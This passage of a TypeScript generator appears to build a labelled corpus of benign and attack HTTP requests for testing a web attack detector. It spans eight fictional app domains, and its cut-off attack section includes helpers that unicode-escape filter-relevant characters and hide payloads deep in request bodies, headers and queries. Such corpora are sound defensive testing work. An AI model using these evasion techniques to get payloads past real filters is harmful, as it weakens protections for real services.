      return chance(0.5) ? pick(PET_BIOS) : pick(ADOPTION_ANSWERS);
    case 'esports':
      return pick(ESPORTS_TEXT);
    case 'legal':
      return pick(LEGAL_NOTES);
    case 'labels':
      return pick(ANNOTATOR_COMMENTS);
  }
}

/** Builds a realistic write body for the domain. */
function writeBody(d: Domain): { path: string; body: Record<string, unknown> } {
  switch (d) {
    case 'social':
      return {
        path: `/api/v2/workspaces/${int(100, 999)}/posts`,
        body: {
          text: freeText('social'),
          channels: sample(
            ['twitter', 'instagram', 'linkedin', 'facebook', 'mastodon', 'threads', 'tiktok'],
            int(1, 3),
          ),
          scheduledAt: isoDate(),
          timezone: pick([
            'Europe/Berlin',
            'America/Los_Angeles',
            'Asia/Tokyo',
            'Australia/Sydney',
            'America/Sao_Paulo',
          ]),
          media: chance(0.5)
            ? [
                {
                  id: uuid(),
                  altText: pick([
                    'Latte art close-up',
                    'Team photo at the offsite',
                    'Product flat lay on marble',
                    'Screenshot of the new dashboard',
                  ]),
                },
              ]
            : [],
          linkPreview: chance(0.4)
            ? {
                url: `https://blog.example.com/posts/${int(100, 999)}`,
                title: 'How we grew 3x in a year',
                image: 'https://blog.example.com/og/cover.png',
              }
            : null,
          firstComment: chance(0.3) ? sample(HASHTAGS, 4).join(' ') : undefined,
        },
      };
    case 'storage':
      return {
        path: `/v1/facilities/${pick(['fac_sea01', 'fac_aus03', 'fac_man02', 'fac_ber01'])}/rentals`,
        body: {
          unit: pick(UNITS),
          size: pick(UNIT_SIZES),
          climateControlled: chance(0.4),
          tenant: {
            ...person(),
            phone: `+1 ${int(200, 989)}-${int(200, 989)}-${int(1000, 9999)}`,
            address: {
              line1: `${int(1, 9999)} ${pick(['Oak St', 'Main Ave', 'Rue de Rivoli', 'Hauptstraße'])}`,
              postalCode: `${int(10000, 99999)}`,
            },
          },
          moveIn: day(),
          monthlyRate: { amount: money(39, 389), currency: pick(['USD', 'EUR', 'GBP']) },
          insurance: { plan: pick(['basic-2k', 'plus-5k', 'none']), declaredValue: int(500, 15000) },
          notes: freeText('storage'),
        },
      };
    case 'birds': {
      const [sci, common] = pick(BIRD_SPECIES);
      return {
        path: '/api/observations',
        body: {
          species: { scientificName: sci, commonName: common },
          count: int(1, 60),
          observedAt: isoDate(),
          location: {
            lat: Number((int(-60000, 70000) / 1000).toFixed(4)),
            lng: Number((int(-170000, 170000) / 1000).toFixed(4)),
            accuracyM: int(3, 250),
            placeName: pick([
              'Rainham Marshes',
              'Lac du Der',
              'Central Park — The Ramble',
              'Hortobágy',
              '葛西臨海公園',
              'Point Reyes',
            ]),
          },
          protocol: pick(['stationary', 'traveling', 'incidental']),
          durationMin: int(5, 180),
          behaviour: sample(['foraging', 'singing', 'flying', 'nesting', 'perched', 'courtship'], int(1, 2)),
          notes: freeText('birds'),
          breedingCode: chance(0.3) ? pick(['S', 'N', 'CN', 'FL', 'ON']) : undefined,
        },
      };
    }
    case 'factoring':
      return {
        path: `/api/clients/${uuid()}/schedules`,
        body: {
          debtor: { name: pick(DEBTORS), taxId: `${int(10, 99)}-${int(1000000, 9999999)}` },
          invoices: Array.from({ length: int(1, 4) }, () => ({
            number: `INV-2026-${int(1000, 9999)}`,
            issueDate: day(),
            dueDate: day(),
            faceValue: money(800, 95000),
            currency: pick(['USD', 'EUR', 'GBP', 'CAD']),
            poNumber: `PO-${int(10000, 99999)}`,
          })),
          advanceRate: pick([0.8, 0.85, 0.9]),
          recourse: chance(0.6),
          memo: freeText('factoring'),
        },
      };
    case 'pets':
      return {
        path: '/api/v1/adoption-applications',
        body: {
          animalId: `A${int(100000, 999999)}`,
          animalName: pick(PET_NAMES),
          applicant: {
            ...person(),
            householdSize: int(1, 6),
            housing: pick(['house-owned', 'house-rented', 'apartment', 'condo']),
          },
          answers: {
            experience: pick(ADOPTION_ANSWERS),
            otherPets: pick(['none', '1 cat (spayed, 6 y/o)', '2 dogs, both vaccinated', 'guinea pigs']),
            hoursAlone: int(0, 9),
          },
          references: [{ name: person().name, relation: pick(['vet', 'friend', 'landlord']) }],
          agreeToHomeVisit: true,
        },
      };
    case 'esports':
      return {
        path: `/v3/tournaments/${pick(['winter-clash-2026', 'copa-cordillera', 'kk-open-7', 'nightfall-invitational'])}/matches/${int(1, 64)}/report`,
        body: {
          game: pick(GAMES),
          teams: sample(TEAMS, 2).map((name, i) => ({ name, score: i === 0 ? int(1, 3) : int(0, 2) })),
          maps: Array.from({ length: int(1, 3) }, () => ({
            name: pick(['Ascent', 'Haven', 'Mirage', 'Inferno', 'Champions Field', "Summoner's Rift"]),
            rounds: [int(0, 13), int(0, 13)],
          })),
          reportedBy: pick(['captain', 'admin', 'referee']),
          comment: freeText('esports'),
          screenshots: chance(0.5) ? [`https://cdn.brackets.example.gg/ss/${uuid()}.png`] : [],
        },
      };
    case 'legal':
      return {
        path: '/api/intake/calls',
        body: {
          callId: uuid(),
          language: pick(['en', 'es', 'fr', 'ru', 'vi', 'ar', 'de', 'zh-Hant']),
          interpreterUsed: chance(0.4),
          caller: {
            firstName: person().name.split(' ')[0],
            zip: `${int(10000, 99999)}`,
            householdIncomeMonthly: int(0, 5200),
          },
          issue: {
            area: pick(['housing', 'employment', 'family', 'benefits', 'consumer-debt', 'immigration']),
            urgency: pick(['low', 'medium', 'high', 'emergency']),
          },
          caseNote: freeText('legal'),
          followUpBy: day(),
        },
      };
    case 'labels':
      return {
        path: `/api/projects/${int(1, 400)}/tasks/${int(10000, 99999)}/annotations`,
        body: {
          result: Array.from({ length: int(1, 3) }, () => ({
            id: randStr(B64URL, 10),
            type: pick(['rectanglelabels', 'labels', 'choices']),
            value: {
              x: int(0, 90),
              y: int(0, 90),
              width: int(3, 40),
              height: int(3, 40),
              labels: [pick(LABELS)],
            },
          })),
          leadTimeSec: int(4, 600),
          wasCancelled: false,
          comment: chance(0.6) ? freeText('labels') : '',
        },
      };
  }
}

function getPath(d: Domain): string {
  switch (d) {
    case 'social':
      return `/api/v2/workspaces/${int(100, 999)}/posts?${qs({ status: pick(['scheduled', 'draft', 'published', 'failed']), channel: pick(['instagram', 'linkedin', 'twitter']), from: day(), to: day(), limit: pick([20, 50, 100]) })}`;
    case 'storage':
      return `/v1/facilities/${pick(['fac_sea01', 'fac_aus03', 'fac_man02'])}/units?${qs({ size: pick(UNIT_SIZES), available: true, climate: pick(['true', 'false', 'any']), floor: int(1, 3), sort: pick(['price', '-price', 'size']) })}`;
    case 'birds':
      return `/api/observations?${qs({ species: pick(BIRD_SPECIES)[0], bbox: '-0.51,51.28,0.33,51.69', since: day(), verified: pick(['true', 'false']), page: int(1, 12) })}`;
    case 'factoring':
      return `/api/invoices?${qs({ 'filter[status]': pick(['verified', 'funded', 'disputed', 'paid']), 'filter[debtor]': pick(DEBTORS), 'page[size]': 25, sort: '-dueDate' })}`;
    case 'pets':
      return `/api/v1/animals?${qs({ species: pick(['dog', 'cat', 'rabbit', 'bird']), age: pick(['puppy', 'young', 'adult', 'senior']), goodWith: pick(['kids', 'cats', 'dogs']), distance: pick([10, 25, 50]), zip: `${int(10000, 99999)}` })}`;
    case 'esports':
      return `/v3/tournaments?${qs({ game: pick(GAMES), region: pick(['EU', 'NA', 'SEA', 'LATAM', 'KR']), status: pick(['upcoming', 'live', 'finished']), format: pick(['single-elim', 'double-elim', 'swiss']) })}`;
    case 'legal':
      return `/api/intake/calls?${qs({ area: pick(['housing', 'family', 'benefits']), language: pick(['es', 'fr', 'vi', 'ar']), assigned: pick(['me', 'unassigned']), from: day() })}`;
    case 'labels':
      return `/api/projects/${int(1, 400)}/tasks?${qs({ status: pick(['unlabeled', 'in_review', 'done']), annotator: `user_${int(10, 999)}`, fields: 'id,data,annotations_count', page_size: 100 })}`;
  }
}

// ---------------------------------------------------------------------------------------------------------
// Clean generators

const clean: CorpusRequest[] = [];

function domainAt(i: number): Domain {
  return DOMAINS[i % DOMAINS.length] as Domain;
}

for (let i = 0; i < 45; i++) {
  const d = domainAt(i);
  clean.push(cleanReq('rest-get', 'GET', getPath(d), baseHeaders()));
}

for (let i = 0; i < 45; i++) {
  const d = domainAt(i + 3);
  const { path, body } = writeBody(d);
  const put = chance(0.25);
  clean.push(
    cleanReq(
      'rest-write',
      put ? 'PUT' : 'POST',
      put ? `${path}/${uuid()}` : path,
      jsonHeaders(),
      JSON.stringify(body),
    ),
  );
}

for (let i = 0; i < 28; i++) {
  const d = domainAt(i + 5);
  const patches: Record<Domain, () => [string, unknown]> = {
    social: () => [
      `/api/v2/posts/${uuid()}`,
      { scheduledAt: isoDate(), firstComment: null, text: freeText('social') },
    ],
    storage: () => [
      `/v1/rentals/${int(10000, 99999)}`,
      { autopay: chance(0.5), notes: freeText('storage'), insurance: { plan: 'plus-5k' } },
    ],
    birds: () => [
      `/api/observations/${int(100000, 999999)}`,
      { count: int(1, 40), notes: freeText('birds'), breedingCode: null },
    ],
    factoring: () => [
      `/api/invoices/${uuid()}`,
      { status: pick(['disputed', 'verified']), memo: freeText('factoring'), dueDate: day() },
    ],
    pets: () => [
      `/api/v1/animals/A${int(100000, 999999)}`,
      {
        status: pick(['available', 'on-hold', 'adopted']),
        bio: pick(PET_BIOS),
        medical: { spayedNeutered: true },
      },
    ],
    esports: () => [
      `/v3/teams/${uuid()}`,
      {
        tag: pick(['NFL', 'KŌRI', 'CND', 'RSLM']),
        roster: { sub: pick(['mika', 'ghost_rider', 'ラン', null]) },
      },
    ],
    legal: () => [
      `/api/intake/cases/${int(20000, 29999)}`,
      {
        urgency: pick(['high', 'medium']),
        caseNote: freeText('legal'),
        interpreter: { language: pick(['es', 'ar', 'vi']) },
      },
    ],
    labels: () => [
      `/api/tasks/${int(10000, 99999)}`,
      { meta: { reviewer_note: freeText('labels'), flagged: chance(0.5) }, priority: int(0, 5) },
    ],
  };
  const [path, body] = patches[d]();
  clean.push(
    cleanReq('merge-patch', 'PATCH', path, jsonHeaders('application/merge-patch+json'), JSON.stringify(body)),
  );
}

for (let i = 0; i < 28; i++) {
  const d = domainAt(i + 1);
  const ops: Record<Domain, () => [string, unknown[]]> = {
    social: () => [
      `/api/v2/posts/${uuid()}`,
      [
        { op: 'replace', path: '/scheduledAt', value: isoDate() },
        { op: 'add', path: '/hashtags/-', value: pick(HASHTAGS) },
      ],
    ],
    storage: () => [
      `/v1/units/${pick(UNITS)}`,
      [
        { op: 'replace', path: '/status', value: pick(['available', 'reserved', 'overlocked']) },
        { op: 'add', path: '/maintenance/-', value: { date: day(), note: freeText('storage') } },
      ],
    ],
    birds: () => [
      `/api/observations/${int(100000, 999999)}`,
      [
        { op: 'test', path: '/version', value: int(1, 9) },
        { op: 'replace', path: '/species/commonName', value: pick(BIRD_SPECIES)[1] },
      ],
    ],
    factoring: () => [
      `/api/schedules/${uuid()}`,
      [
        { op: 'remove', path: `/invoices/${int(0, 3)}` },
        { op: 'replace', path: '/advanceRate', value: 0.85 },
      ],
    ],
    pets: () => [
      `/api/v1/animals/A${int(100000, 999999)}`,
      [
        { op: 'add', path: '/photos/-', value: `https://cdn.shelter.example.org/a/${uuid()}.jpg` },
        { op: 'replace', path: '/weightKg', value: int(2, 45) },
      ],
    ],
    esports: () => [
      `/v3/brackets/${uuid()}`,
      [
        { op: 'move', from: `/rounds/0/matches/${int(0, 7)}`, path: `/rounds/0/matches/${int(0, 7)}` },
        { op: 'replace', path: '/rounds/1/bestOf', value: 3 },
      ],
    ],
    legal: () => [
      `/api/intake/cases/${int(20000, 29999)}`,
      [
        { op: 'add', path: '/notes/-', value: { at: isoDate(), text: freeText('legal') } },
        { op: 'replace', path: '/status', value: 'referred' },
      ],
    ],
    labels: () => [
      `/api/projects/${int(1, 400)}/label-schema`,
      [
        { op: 'add', path: '/classes/-', value: { name: pick(LABELS), color: `#${randStr(HEX, 6)}` } },
        { op: 'copy', from: '/classes/0/hotkey', path: '/classes/3/hotkey' },
      ],
    ],
  };
  const [path, body] = ops[d]();
  clean.push(
    cleanReq('json-patch', 'PATCH', path, jsonHeaders('application/json-patch+json'), JSON.stringify(body)),
  );
}

for (let i = 0; i < 28; i++) {
  const d = domainAt(i + 2);
  const { body } = writeBody(d);
  const type = {
    social: 'posts',
    storage: 'rentals',
    birds: 'observations',
    factoring: 'schedules',
    pets: 'applications',
    esports: 'match-reports',
    legal: 'calls',
    labels: 'annotations',
  }[d];
  const method = pick(['POST', 'PATCH', 'GET']);
  if (method === 'GET') {
    clean.push(
      cleanReq(
        'jsonapi',
        'GET',
        `/jsonapi/${type}?${qs({ include: 'author,attachments', [`fields[${type}]`]: 'title,createdAt,status', 'page[number]': int(1, 9), 'page[size]': 20 })}`,
        baseHeaders({ accept: 'application/vnd.api+json' }),
      ),
    );
    continue;
  }
  const id = method === 'PATCH' ? uuid() : undefined;
  const doc = {
    data: {
      type,
      ...(id ? { id } : {}),
      attributes: body,
      relationships: { owner: { data: { type: 'users', id: String(int(1, 99999)) } } },
    },
  };
  clean.push(
    cleanReq(
      'jsonapi',
      method,
      `/jsonapi/${type}${id ? `/${id}` : ''}`,
      baseHeaders({ 'content-type': 'application/vnd.api+json', accept: 'application/vnd.api+json' }),
      JSON.stringify(doc),
    ),
  );
}

const GQL_QUERIES: { op: string; query: string; vars: () => Record<string, unknown> }[] = [
  {
    op: 'SchedulePost',
    query:
      'mutation SchedulePost($input: SchedulePostInput!) { schedulePost(input: $input) { id status scheduledAt channels { id name } } }',
    vars: () => ({
      input: { text: freeText('social'), channelIds: [uuid(), uuid()], scheduledAt: isoDate() },
    }),
  },
  {
    op: 'LinkPreview',
    query: 'query LinkPreview($url: URL!) { linkPreview(url: $url) { title description image siteName } }',
    vars: () => ({
      url: pick([
        'https://www.nytimes.com/2026/11/02/technology/ai-labels.html',
        'https://blog.example.com/posts/412?ref=newsletter',
        'https://youtu.be/dQw4w9WgXcQ?t=42',
      ]),
    }),
  },
  {
    op: 'AvailableUnits',
    query:
      'query AvailableUnits($facility: ID!, $size: String) { facility(id: $facility) { name units(size: $size, available: true) { id size monthlyRate { amount currency } } } }',
    vars: () => ({ facility: 'fac_sea01', size: pick(UNIT_SIZES) }),
  },
  {
    op: 'SubmitObservation',
    query:
      'mutation SubmitObservation($obs: ObservationInput!) { submitObservation(input: $obs) { id reviewStatus } }',
    vars: () => ({ obs: writeBody('birds').body }),
  },
  {
    op: 'DebtorExposure',
    query:
      'query DebtorExposure($name: String!, $from: Date) { debtor(name: $name) { exposure(from: $from) { outstanding currency daysSalesOutstanding } } }',
    vars: () => ({ name: pick(DEBTORS), from: day() }),
  },
  {
    op: 'Animals',
    query:
      'query Animals($filter: AnimalFilter, $first: Int) { animals(filter: $filter, first: $first) { edges { node { id name species ageMonths bio } } pageInfo { endCursor hasNextPage } } }',
    vars: () => ({ filter: { species: pick(['DOG', 'CAT']), goodWithKids: true }, first: 24 }),
  },
  {
    op: 'Bracket',
    query:
      'query Bracket($slug: String!) { tournament(slug: $slug) { name rounds { number matches { id teamA { name } teamB { name } score } } } }',
    vars: () => ({ slug: pick(['winter-clash-2026', 'kk-open-7']) }),
  },
  {
    op: 'AddCaseNote',
    query:
      'mutation AddCaseNote($caseId: ID!, $note: String!, $lang: String) { addCaseNote(caseId: $caseId, text: $note, language: $lang) { id createdAt } }',
    vars: () => ({
      caseId: String(int(20000, 29999)),
      note: freeText('legal'),
      lang: pick(['es', 'fr', 'ru', 'vi']),
    }),
  },
  {
    op: 'NextTask',
    query:
      'query NextTask($project: ID!) { nextTask(project: $project) { id data { image text } guidelinesVersion } }',
    vars: () => ({ project: String(int(1, 400)) }),
  },
];

for (let i = 0; i < 36; i++) {
  const g = GQL_QUERIES[i % GQL_QUERIES.length] as (typeof GQL_QUERIES)[number];
  const mode = i % 4;
  if (mode === 3) {
    const ext = { persistedQuery: { version: 1, sha256Hash: randStr(HEX, 64) } };
    const path = `/graphql?${qs({ operationName: g.op, variables: JSON.stringify(g.vars()), extensions: JSON.stringify(ext) })}`;
    clean.push(cleanReq('graphql', 'GET', path, baseHeaders({ 'apollo-require-preflight': 'true' })));
  } else if (mode === 2 && !g.query.startsWith('mutation')) {
    clean.push(
      cleanReq(
        'graphql',
        'GET',
        `/graphql?${qs({ query: g.query, operationName: g.op, variables: JSON.stringify(g.vars()) })}`,
        baseHeaders(),
      ),
    );
  } else {
    clean.push(
      cleanReq(
        'graphql',
        'POST',
        '/graphql',
        jsonHeaders(),
        JSON.stringify({ operationName: g.op, query: g.query, variables: g.vars() }),
      ),
    );
  }
}

for (let i = 0; i < 28; i++) {
  const d = domainAt(i + 4);
  const p = person();
  const forms: Record<Domain, () => [string, Record<string, string>]> = {
    social: () => [
      '/oauth/token',
      {
        grant_type: 'authorization_code',
        code: randStr(B64URL, 40),
        redirect_uri: 'https://app.postpilot.app/oauth/callback/linkedin',
        client_id: 'pp_web',
      },
    ],
    storage: () => [
      '/contact/quote',
      {
        name: p.name,
        email: p.email,
        unit_size: pick(UNIT_SIZES),
        move_in: day(),
        message: freeText('storage'),
      },
    ],
    birds: () => [
      '/account/newsletter',
      {
        email: p.email,
        region: pick(['UK & Ireland', 'Île-de-France', 'Pacific Northwest']),
        frequency: 'weekly',
      },
    ],
    factoring: () => [
      '/apply',
      {
        company: pick(DEBTORS),
        contact: p.name,
        email: p.email,
        monthly_revenue: pick(['<50k', '50k-250k', '250k-1M', '>1M']),
        how_heard: pick([
          'Google',
          'a friend / colleague',
          'LinkedIn ad',
          'Trade show (Logistics Expo 2026)',
        ]),
      },
    ],
    pets: () => [
      '/volunteer/signup',
      {
        name: p.name,
        email: p.email,
        availability: pick(['weekends', 'Tue & Thu evenings', 'mornings before 10']),
        why: pick(ADOPTION_ANSWERS),
      },
    ],
    esports: () => [
      '/teams/register',
      {
        team_name: pick(TEAMS),
        captain_email: p.email,
        discord: `${p.name.split(' ')[0]?.toLowerCase()}#${int(1000, 9999)}`,
        game: pick(GAMES),
      },
    ],
    legal: () => [
      '/intake/web',
      {
        first_name: p.name.split(' ')[0] ?? '',
        preferred_language: pick(['Español', 'Français', 'العربية', 'Tiếng Việt', 'English']),
        best_time: pick(['mañana', 'after 5pm', 'anytime']),
        describe: freeText('legal'),
      },
    ],
    labels: () => [
      '/login',
      { username: p.email, password: randStr(B64URL, 14), remember_me: 'on', csrf_token: randStr(HEX, 32) },
    ],
  };
  const [path, f] = forms[d]();
  clean.push(
    cleanReq(
      'form',
      'POST',
      path,
      baseHeaders({ 'content-type': 'application/x-www-form-urlencoded' }),
      form(f),
    ),
  );
}

const FILES = [
  {
    filename: 'IMG_20261104_0652.jpg',
    type: 'image/jpeg',
    value: '\u00ff\u00d8\u00ff\u00e0\u0000\u0010JFIF\u0000\u0001\u0001\u0000\u0000H\u0000H\u0000\u0000',
  },
  {
    filename: 'invoice INV-2026-0412.pdf',
    type: 'application/pdf',
    value: '%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n',
  },
  {
    filename: 'schedule_of_accounts.csv',
    type: 'text/csv',
    value:
      'invoice,debtor,amount,due\nINV-2026-0412,"Hargreaves Logistics Ltd",15600.00,2026-12-18\nINV-2026-0413,"O\'Neill & Sons Builders",4210.50,2026-12-20\n',
  },
  {
    filename: 'labels_export.jsonl',
    type: 'application/jsonl',
    value: '{"id":1,"label":"positive"}\n{"id":2,"label":"negative"}\n',
  },
  {
    filename: 'vaccination_record_Luna.png',
    type: 'image/png',
    value: '\u0089PNG\r\n\u001a\n\u0000\u0000\u0000\rIHDR',
  },
  { filename: 'Mietvertrag_Seite1-3.pdf', type: 'application/pdf', value: '%PDF-1.4\n%âãÏÓ\n' },
  { filename: 'dawn_chorus.m4a', type: 'audio/mp4', value: '\u0000\u0000\u0000\u0018ftypM4A ' },
  {
    filename: 'roster.xlsx',
    type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    value: 'PK\u0003\u0004\u0014\u0000\u0006\u0000',
  },
];

for (let i = 0; i < 24; i++) {
  const d = domainAt(i + 6);
  const f = FILES[i % FILES.length] as (typeof FILES)[number];
  const mp = multipart([
    { name: 'file', filename: f.filename, type: f.type, value: f.value },
    { name: 'description', value: freeText(d) },
    { name: 'visibility', value: pick(['private', 'team', 'public']) },
  ]);
  const path = {
    social: '/api/v2/media',
    storage: '/v1/rentals/documents',
    birds: '/api/observations/media',
    factoring: '/api/documents',
    pets: '/api/v1/animals/attachments',
    esports: '/v3/disputes/evidence',
    legal: '/api/intake/attachments',
    labels: '/api/projects/import',
  }[d];
  clean.push(cleanReq('multipart', 'POST', path, baseHeaders({ 'content-type': mp.ct }), mp.body));
}

for (let i = 0; i < 22; i++) {
  const d = domainAt(i + 7);
  const lines: string[] = [];
  for (let k = 0; k < int(2, 6); k++) {
    if (d === 'labels')
      lines.push(
        JSON.stringify({
          task_id: int(10000, 99999),
          label: pick(LABELS),
          annotator: `user_${int(10, 999)}`,
          comment: chance(0.4) ? pick(ANNOTATOR_COMMENTS) : null,
          ts: isoDate(),
        }),
      );
    else if (d === 'birds')
      lines.push(
        JSON.stringify({
          species: pick(BIRD_SPECIES)[0],
          count: int(1, 30),
          ts: isoDate(),
          notes: chance(0.4) ? pick(BIRD_NOTES) : '',
        }),
      );
    else
      lines.push(
        JSON.stringify({
          event: pick(['viewed', 'clicked', 'scheduled', 'exported', 'status_changed']),
          domain: d,
          at: isoDate(),
          actor: uuid(),
          detail: chance(0.5) ? freeText(d) : undefined,
        }),
      );
  }
  const path =
    d === 'labels'
      ? '/api/import/annotations'
      : d === 'birds'
        ? '/api/observations/bulk'
        : '/v1/events/batch';
  clean.push(
    cleanReq(
      'ndjson',
      'POST',
      path,
      baseHeaders({ 'content-type': 'application/x-ndjson' }),
      `${lines.join('\n')}\n`,
    ),
  );
}

for (let i = 0; i < 20; i++) {
  const d = domainAt(i);
  const path = {
    social: `/api/v2/posts/${uuid()}`,
    storage: `/v1/rentals/${int(10000, 99999)}/reservations/${int(1, 9)}`,
    birds: `/api/observations/${int(100000, 999999)}/media/${uuid()}`,
    factoring: `/api/schedules/${uuid()}/invoices/INV-2026-${int(1000, 9999)}`,
    pets: `/api/v1/adoption-applications/${uuid()}?reason=${encodeURIComponent(pick(['withdrawn by applicant', 'duplicate', 'animal adopted']))}`,
    esports: `/v3/tournaments/kk-open-7/teams/${uuid()}`,
    legal: `/api/intake/calls/${uuid()}/attachments/${int(1, 20)}`,
    labels: `/api/projects/${int(1, 400)}/annotations/${int(100000, 999999)}`,
  }[d];
  clean.push(cleanReq('delete', 'DELETE', path, baseHeaders()));
}

for (let i = 0; i < 30; i++) {
  const html = pick(HTML_SNIPPETS);
  if (i % 3 === 2) {
    const body = {
      guidelines: {
        version: `v${int(2, 7)}.${int(0, 9)}`,
        title: pick(['Bounding boxes for urban scenes', 'Sentiment — edge cases', 'NER for invoices']),
        bodyHtml: html,
      },
      changelog: 'Clarified partial occlusion rule; added examples.',
    };
    clean.push(
      cleanReq(
        'cms-html',
        'PUT',
        `/api/projects/${int(1, 400)}/guidelines`,
        jsonHeaders(),
        JSON.stringify(body),
      ),
    );
  } else {
    const body = {
      title: pick([
        'Spring adoption event',
        'December rent reminder',
        'Tournament rules',
        'Newsletter #48',
        'Was Sie mitbringen sollten',
        'Client update',
      ]),
      slug: `post-${int(100, 9999)}`,
      content: { format: 'html', html, excerpt: freeText(domainAt(i)).slice(0, 120) },
      status: pick(['draft', 'published']),
      publishAt: isoDate(),
    };
    clean.push(
      cleanReq(
        'cms-html',
        pick(['POST', 'PUT']),
        pick(['/api/v2/newsletters', '/api/cms/pages', '/v1/announcements', '/api/v1/blog/posts']),
        jsonHeaders(),
        JSON.stringify(body),
      ),
    );
  }
}

for (let i = 0; i < 30; i++) {
  if (i % 5 === 4) {
    const body = {
      title: pick(['Vehicles v3', 'Sentiment (3-way)', 'Invoice NER']),
      labelConfig: { format: 'label-studio', xml: pick(LABEL_CONFIGS) },
      sampling: pick(['sequential', 'uniform']),
    };
    clean.push(cleanReq('code', 'PUT', `/api/projects/${int(1, 400)}`, jsonHeaders(), JSON.stringify(body)));
    continue;
  }
  const c = pick(CODE_SNIPPETS);
  const body = {
    snippet: {
      language: c.language,
      source: c.source,
      filename: `snippet.${c.language === 'python' ? 'py' : c.language === 'bash' ? 'sh' : c.language}`,
    },
    description: pick([
      'Export helper used by the review team',
      'Query for the weekly annotator leaderboard',
      'Bracket seeding helper',
      'Config for the new project',
      'Paste from Slack, please review',
    ]),
    visibility: 'team',
  };
  clean.push(
    cleanReq(
      'code',
      'POST',
      pick(['/api/snippets', '/api/projects/12/scripts', '/v1/integrations/templates']),
      jsonHeaders(),
      JSON.stringify(body),
    ),
  );
}

for (let i = 0; i < 40; i++) {
  const d = domainAt(i);
  const text = [freeText(d), pick(PROSE_EXTRA), chance(0.4) ? pick(PROSE_EXTRA) : '']
    .filter(Boolean)
    .join(' ');
  const field = pick(['message', 'comment', 'note', 'description', 'feedback']);
  const body = {
    [field]: text,
    author: person(),
    createdAt: isoDate(),
    markdown: chance(0.3)
      ? `**Update:** ${pick(PROSE_EXTRA)}\n\n- item one\n- item _two_\n\n> quoted reply`
      : undefined,
  };
  clean.push(
    cleanReq(
      'prose',
      'POST',
      pick(['/api/comments', '/api/v1/messages', '/v1/tickets/notes', '/api/intake/notes', '/api/feedback']),
      jsonHeaders(),
      JSON.stringify(body),
    ),
  );
}

const SEARCHES = [
  'beagle mix good with cats',
  'heron "nesting colony"',
  'climate controlled 10x10 near 98103',
  "Anna's hummingbird",
  'invoice dispute short-paid',
  'how to drop a team from the bracket',
  'select all posts in december',
  'eviction notice 3 day',
  'desalojo aviso 3 días',
  'garde enfants séparation',
  'union AND (warehouse OR logistics)',
  'label:toxic -label:sarcasm',
  'C# developer hiring post',
  '東京 カフェ 新商品',
  'grand final BO5 reset',
  "O'Neill & Sons",
  'price < 100 & size >= 5x10',
  'rm 3 room apartment',
  '🐶 puppy',
  'script: "delete old drafts"',
];

for (let i = 0; i < 36; i++) {
  const q = SEARCHES[i % SEARCHES.length] as string;
  const path = pick([
    '/api/search',
    '/v1/search',
    '/api/v2/search',
    '/api/v1/animals/search',
    '/api/observations/search',
  ]);
  const params: Record<string, string | number> = { q, page: int(1, 5) };
  if (chance(0.5)) params.sort = pick(['relevance', '-createdAt', 'date']);
  if (chance(0.3)) params.lang = pick(['en', 'es', 'fr', 'ja']);
  const enc = chance(0.3)
    ? `q=${q.replace(/ /g, '+').replace(/&/g, '%26').replace(/#/g, '%23')}&page=${params.page}`
    : qs(params);
  clean.push(cleanReq('search', 'GET', `${path}?${enc}`, baseHeaders()));
}

// ---------------------------------------------------------------------------------------------------------
// Attacks

const attacks: CorpusRequest[] = [];

function attackReq(
  family: string,
  technique: string,
  method: string,
  path: string,
  headers: Record<string, string>,
  body = '',
): void {
  attackN += 1;
  attacks.push({ id: `h27a${attackN}`, kind: 'attack', family, technique, method, path, headers, body });
}

/** Escapes every char of `s` as \uXXXX inside a JSON string literal (without the surrounding quotes). */
function uEscape(s: string): string {
  return [...s].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
}

/** Escapes only the chars that matter to a filter (quotes, angle brackets, $, {, }, /, etc.). */
function uEscapeSpecials(s: string): string {
  return [...s]
    .map((c) => (/[A-Za-z0-9 ]/.test(c) ? c : `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`))
    .join('');
}

const MARK = '\u0000PAYLOAD\u0000';

/** Stringifies `body` whose MARK placeholder is replaced by `raw` (already JSON-string-content escaped). */
function withRaw(body: unknown, raw: string): string {
  return JSON.stringify(body).replace(JSON.stringify(MARK).slice(1, -1), raw);
}

/** A nested, realistic domain body with `value` placed at a field deep inside. */
function nestBody(d: Domain, field: string, value: unknown): { path: string; body: Record<string, unknown> } {
  const { path, body } = writeBody(d);
  switch (d) {
    case 'social':
      return {
        path,
        body: { ...body, targeting: { audience: { [field]: value, locales: ['en-GB', 'de-DE'] } } },
      };
    case 'storage':
      return { path, body: { ...body, tenant: { ...(body.tenant as object), [field]: value } } };
    case 'birds':
      return { path, body: { ...body, location: { ...(body.location as object), [field]: value } } };
    case 'factoring':
      return { path, body: { ...body, debtor: { ...(body.debtor as object), contact: { [field]: value } } } };
    case 'pets':
      return { path, body: { ...body, answers: { ...(body.answers as object), [field]: value } } };
    case 'esports':
      return { path, body: { ...body, meta: { client: { [field]: value } } } };
    case 'legal':
      return { path, body: { ...body, caller: { ...(body.caller as object), [field]: value } } };
    case 'labels':
      return { path, body: { ...body, meta: { source: { [field]: value } } } };
  }
}

type Placement =
  | 'json-nested'
  | 'json-array'
  | 'query'
  | 'query-double-encoded'
  | 'header'
  | 'graphql-variables'
  | 'json-unicode-escaped'
  | 'json-in-string'
  | 'base64-field'
  | 'form'
  | 'multipart'
  | 'ndjson'
  | 'jsonapi'
  | 'merge-patch'
  | 'json-key';

interface FamilyCtx {
  family: string;
  fields: readonly string[];
  headers: readonly string[];
  queryParams: readonly string[];
}

function placeString(
  ctx: FamilyCtx,
  technique: string,
  payload: string,
  placement: Placement,
  i: number,
): void {
  const d = domainAt(i * 3 + ctx.family.length);
  const field = ctx.fields[i % ctx.fields.length] as string;
  const tech = `${technique}; ${placement}`;
  const fam = ctx.family;
  switch (placement) {
    case 'json-nested': {
      const { path, body } = nestBody(d, field, payload);
      attackReq(fam, tech, 'POST', path, jsonHeaders(), JSON.stringify(body));
      return;
    }
    case 'json-array': {
      const { path, body } = writeBody(d);
      attackReq(
        fam,
        tech,
        'POST',
        path,
        jsonHeaders(),
        JSON.stringify({ ...body, tags: [pick(HASHTAGS), payload, pick(LABELS)] }),
      );
      return;
    }
    case 'query': {
      const base = getPath(d);
      attackReq(
        fam,
        tech,
        'GET',
